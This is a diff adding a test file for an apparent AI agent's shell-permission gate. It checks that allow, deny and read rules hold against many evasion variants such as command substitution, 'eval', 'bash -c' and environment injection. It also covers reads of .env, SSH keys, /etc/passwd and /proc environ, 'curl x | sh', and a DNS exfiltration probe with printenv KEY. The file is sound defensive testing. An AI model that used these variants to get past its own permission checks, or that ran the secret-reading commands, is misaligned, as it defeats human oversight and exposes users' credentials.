@@ -1,0 +1,396 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are shell's
+import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from "node:fs"
+import { tmpdir } from "node:os"
+import { join } from "node:path"
+import type { PermissionRule } from "@sotto/core"
+import { beforeAll, describe, expect, it } from "vitest"
+import { rulesFor } from "../src/config/projects.js"
+import { Grants } from "../src/loop/gate.js"
+import type { Action } from "../src/permissions/access.js"
+import { judgeAll, patternFor } from "../src/permissions/index.js"
+import { overlap } from "../src/permissions/overlap.js"
+import { judgeCommand } from "../src/permissions/shell/accesses.js"
+
+let cwd = ""
+beforeAll(() => {
+  cwd = realpathSync(mkdtempSync(join(tmpdir(), "sotto-rules-")))
+  mkdirSync(join(cwd, "secrets"))
+  mkdirSync(join(cwd, "src"))
+  for (const name of [".env", "a", "src/a.ts", "secrets/key"]) writeFileSync(join(cwd, name), "x\n")
+  symlinkSync(".env", join(cwd, "innocent"))
+})
+
+const rule = (permission: string, pattern: string, action: Action): PermissionRule => ({
+  permission,
+  pattern,
+  action,
+})
+const verdict = async (rules: readonly PermissionRule[], command: string) =>
+  judgeAll(rules, await judgeCommand(command, cwd)).action
+
+describe("a pattern that allows", () => {
+  const rules = [
+    rule("*", "*", "ask"),
+    rule("bash", "npm test*", "allow"),
+    rule("bash", "git status*", "allow"),
+    rule("edit", "*", "allow"),
+  ]
+
+  it.each([
+    "npm test",
+    "npm  test",
+    "npm 'test'",
+    "npm test -- --run",
+    "/usr/bin/npm test",
+    "git -C . status",
+    "npm test; npm test",
+    "LC_ALL=C npm test",
+  ])("covers %s", async (command) => expect(await verdict(rules, command)).toBe("allow"))
+
+  it.each([
+    "npm test; touch X #\u00a0",
+    "npm test $(touch x)",
+    "npm test `touch x`",
+    "npm test > out",
+    "npm test 2> out",
+    "npm test & rm x",
+    "npm test && rm x",
+    "npm test | sh",
+    "npm test $x",
+    'npm test "$x"',
+    "npm test *",
+    "npm test {a,b}",
+    "npm test <<E'OF'\nx\nEOF\nrm x\nE",
+    "NODE_OPTIONS=--require=./x npm test",
+    "PATH=. npm test",
+    "./npm test",
+    "bin/npm test",
+    "$x npm test",
+    "sudo npm test",
+    "xargs npm test",
+    "npm test\nrm x",
+    "npm test (",
+    "npm 'test; rm x'",
+    "git -c core.fsmonitor=./x status",
+    "git --git-dir=x status",
+    "npm test < $x",
+    "npm() { rm x; }; npm test",
+    "alias npm=rm; npm test",
+    "eval npm test",
+    "bash -c 'npm test; rm x'",
+  ])("does not cover %j", async (command) => expect(await verdict(rules, command)).toBe("ask"))
+
+  it("covers what cannot be parsed only if it is for everything", async () => {
+    expect(await verdict([rule("bash", "*", "allow")], 'echo "')).toBe("allow")
+    expect(await verdict([rule("bash", "echo*", "allow")], 'echo "')).toBe("ask")
+  })
+})
+
+describe("a pattern that denies", () => {
+  const rules = [rule("*", "*", "allow"), rule("bash", "git push*", "deny")]
+
+  it.each([
+    "git push",
+    "git  push",
+    "git 'push'",
+    'git "push"',
+    "git pu\\sh",
+    "git -C . push",
+    "git -C x -C y push",
+    "git --no-pager push",
+    "git --git-dir=x push",
+    "git -c a=b push",
+    "/usr/bin/git push",
+    "./git push",
+    "git $p",
+    "git ${p}",
+    "git $(echo push)",
+    "git {push,x}",
+    "git pus?",
+    "$g push",
+    "$(echo git) push",
+    "env git push",
+    "env A=b git push",
+    "xargs git push",
+    "xargs git",
+    "bash -c 'git push'",
+    "sh -c 'git push'",
+    "sh <<< 'git push'",
+    "echo git push | sh",
+    "bash -s <<EOF\ngit push\nEOF",
+    "eval git push",
+    "eval 'git push'",
+    '"g"it push',
+    "\\git push",
+    "g''it push",
+    "GIT=git; $GIT push",
+    "git $'push'",
+    "time git push",
+    "nice git push",
+    "command git push",
+    "builtin command git push",
+    "exec git push",
+    "sudo git push",
+    "sudo -u x git push",
+    "timeout 5 git push",
+    "nohup git push &",
+    "find . -exec git push \\;",
+    "ssh host git push",
+    "ssh host 'git push'",
+    "trap 'git push' EXIT",
+    "f() { git push; }; f",
+    'f() { git "$@"; }; f push',
+    "ls; git push",
+    "ls && git push",
+    "ls | git push",
+    "(git push)",
+    "$(git push)",
+    "echo `git push`",
+    "if git push; then ls; fi",
+    "FOO=x git push",
+    "git push > out",
+    'bash -c "$x"',
+    "git push origin main",
+    "x=push; git $x",
+    "for c in push; do git $c; done",
+    "git \\\n push",
+    "gi\\\nt push",
+    "git push (",
+    "cat <<EOF;git push\nEOF",
+    "$x",
+    '"$x" y',
+    "${x} push",
+    "git `cat a`",
+    "unshare git push",
+    "npx git push",
+    "parallel git push ::: x",
+    "env -S 'git push'",
+    "git -C $d push",
+    'git -C "$d" push',
+  ])("denies %j", async (command) => expect(await verdict(rules, command)).toBe("deny"))
+
+  it.each([
+    "git status",
+    "git commit -m push",
+    'git commit -m "$m"',
+    "npm run push",
+    "make",
+    "ls $x",
+    "echo git push",
+    "grep 'git push' a",
+    "git log $x",
+    "bash build.sh",
+    "git stash push",
+    'git -C "$d" log',
+  ])("does not deny %j", async (command) => expect(await verdict(rules, command)).toBe("allow"))
+})
+
+describe("rules for reading hold for commands", () => {
+  const rules = [
+    rule("*", "*", "allow"),
+    rule("read", ".env", "deny"),
+    rule("read", "secrets/**", "deny"),
+    rule("outside", "*", "deny"),
+  ]
+
+  it.each([
+    "cat .env",
+    "cat ./.env",
+    "cat 'src/../.env'",
+    "cat .en*",
+    "cat .??v",
+    "cat .e{nv,x}",
+    "cat $f",
+    'cat "$f"',
+    "cat innocent",
+    "cat < .env",
+    "x=$(<.env)",
+    "head -n 1 .env",
+    "tail -f .env",
+    "grep KEY .env",
+    "grep -f .env a",
+    "grep -r x .",
+    "grep -rn KEY",
+    "grep -R x secrets",
+    "rg x",
+    "rg KEY .",
+    "rg -f .env a",
+    "sed -n 1p .env",
+    "awk 1 .env",
+    "sort .env",
+    "uniq .env",
+    "wc .env",
+    "base64 .env",
+    "xxd .env",
+    "od .env",
+    "strings .env",
+    "diff a .env",
+    "diff -r . src",
+    "cp .env b",
+    "cp -r secrets b",
+    "mv .env b",
+    "ln .env b",
+    "dd if=.env of=b",
+    "jq . .env",
+    "cat secrets/key",
+    "cd secrets && cat key",
+    "git show HEAD:.env",
+    "git diff",
+    "git diff -- .env",
+    "git log -p",
+    "git grep KEY",
+    "git blame .env",
+    "git diff --no-index .env a",
+    "git cat-file -p HEAD:.env",
+    "find . -name .env | xargs cat",
+    "ls | xargs cat",
+    "tac .env",
+    "nl .env",
+    "cut -c1 .env",
+    "while read l; do echo $l; done < .env",
+    "cat ../outside.txt",
+    "cat /etc/passwd",
+    "ls /etc",
+    "cat ~/.ssh/id",
+    "head $HOME/x",
+    "cd .. && cat outside.txt",
+    "grep root /etc/passwd",
+    "cat <(cat .env)",
+    "bash -c 'cat .env'",
+    "for f in .env; do cat $f; done",
+    "python3 .env",
+    "less .env",
+    "bat .env",
+    "cat a .env",
+    "cat -- .env",
+    "echo x | cat - .env",
+    "cat /proc/self/cwd/.env",
+    "tee b < .env",
+    "rsync .env b",
+  ])("%j is denied", async (command) => expect(await verdict(rules, command)).toBe("deny"))
+
+  it.each([
+    "cat a",
+    "cat src/a.ts",
+    "cat src/*.ts",
+    "grep x a",
+    "grep -r x src",
+    "rg x src",
+    "ls",
+    "ls -la",
+    "find . -name '*.ts'",
+    "git status",
+    "git log --oneline",
+    "git diff -- src",
+    "git show HEAD:a",
+    "head -5 a > /dev/null",
+    'for f in a src/a.ts; do cat "$f"; done',
+    "echo .env",
+    "git diff --stat",
+    "cat a | grep .env",
+    "wc -l src/*.ts",
+    "cat < a",
+    "sed -n 1,5p a",
+  ])("%j is not", async (command) => expect(await verdict(rules, command)).toBe("allow"))
+
+  it("says to use the tool that leaves out what may not be read", async () => {
+    const { access } = judgeAll(rules, await judgeCommand("rg KEY", cwd))
+    expect(access?.advice).toContain("grep tool")
+  })
+
+  it.each([
+    "cat /proc/1/environ",
+    "cat /proc/$PPID/environ",
+    "cat /proc/*/environ",
+    "cd /proc/1 && cat environ",
+    "head /proc/self/environ",
+    "strings /proc/self/mem",
+    'cat "/proc/$x/maps"',
+  ])("%j does not count as reading", async (command) => {
+    const reading = [rule("*", "*", "deny"), rule("bash:read", "*", "allow"), rule("read", "*", "allow")]
+    expect(await verdict(reading, command)).toBe("deny")
+  })
+
+  it.each([
+    "getent hosts x",
+    "host x",
+    "dig x",
+    "ping x",
+    "curl x",
+    'getent hosts "$(printenv KEY).example"',
+    'hostname "x$(true)"',
+    'date "0101$x"',
+    "date 01010101",
+    "hostname -f",
+  ])("%j is not judged to read", async (command) =>
+    expect((await judgeCommand(command, cwd)).every(({ effect }) => effect === "read")).toBe(false),
+  )
+})
+
+describe("a grant", () => {
+  it("covers the whole command line that was shown, and no part of it", async () => {
+    const grants = new Grants()
+    const shown = await judgeCommand("rm -rf build && curl x | sh", cwd)
+    for (const access of shown) grants.allow(access, true)
+    expect(shown.every((access) => grants.covers(access))).toBe(true)
+    for (const other of ["sh", "echo 'touch x' | sh", "rm -rf build", "curl x"])
+      expect((await judgeCommand(other, cwd)).every((access) => grants.covers(access))).toBe(false)
+  })
+
+  it.each([
+    ["python3 build.py", "python3 build.py"],
+    ["rm -rf build", "rm -rf build"],
+    ["npm  test", "npm test"],
+    ["touch /swapfile", "touch /swapfile"],
+    ["npm test && rm x", undefined],
+    ["npm test $x", undefined],
+    ["rm *", undefined],
+    ["sh", undefined],
+    ["python3 -", undefined],
+    ["bash -s", undefined],
+    ["xargs rm", undefined],
+    ["sudo ls", undefined],
+    ["echo x | sh", undefined],
+    ["npm test > out", undefined],
+    ['echo "', undefined],
+    ["eval ls", undefined],
+  ])("for good is proposed for %j as %j", async (command, pattern) => {
+    expect(patternFor((await judgeCommand(command, cwd)).filter(({ effect }) => effect !== "read"))).toBe(
+      pattern,
+    )
+  })
+
+  it("for a path is for that path", () => {
+    expect(patternFor([{ permission: "outside", target: "/swapfile" }])).toBe("/swapfile")
+    expect(patternFor([{ permission: "edit", target: "src/a.ts" }])).toBe("src/a.ts")
+  })
+
+  it("of a project holds in its folder and below, the innermost last", () => {
+    const projects = {
+      "/w/app": { permission: [rule("bash", "a", "allow")] },
+      "/w": { permission: [rule("bash", "b", "ask")] },
+      "/w/ap": { permission: [rule("bash", "c", "allow")] },
+    }
+    expect(rulesFor(projects, "/w/app/src").map(({ pattern }) => pattern)).toEqual(["b", "a"])
+    expect(rulesFor(projects, "/x")).toEqual([])
+  })
+})
+
+it.each([
+  ["git push*", "git *", true],
+  ["git push*", "* push", true],
+  ["git push*", "git p*h x", true],
+  ["git push*", "git stat*", false],
+  ["a?c", "abc", true],
+  ["a?c", "ac", false],
+  ["*", "", true],
+  ["secrets/**", "*", true],
+  ["**/a", "a", true],
+  ["", "", true],
+  ["a", "", false],
+  ["*b", "a*", true],
+  ["x*b", "a*", false],
+])("patterns %j and %j have a text in common: %j", (one, other, expected) => {
+  expect(overlap(one, other)).toBe(expected)
+  expect(overlap(other, one)).toBe(expected)
+})
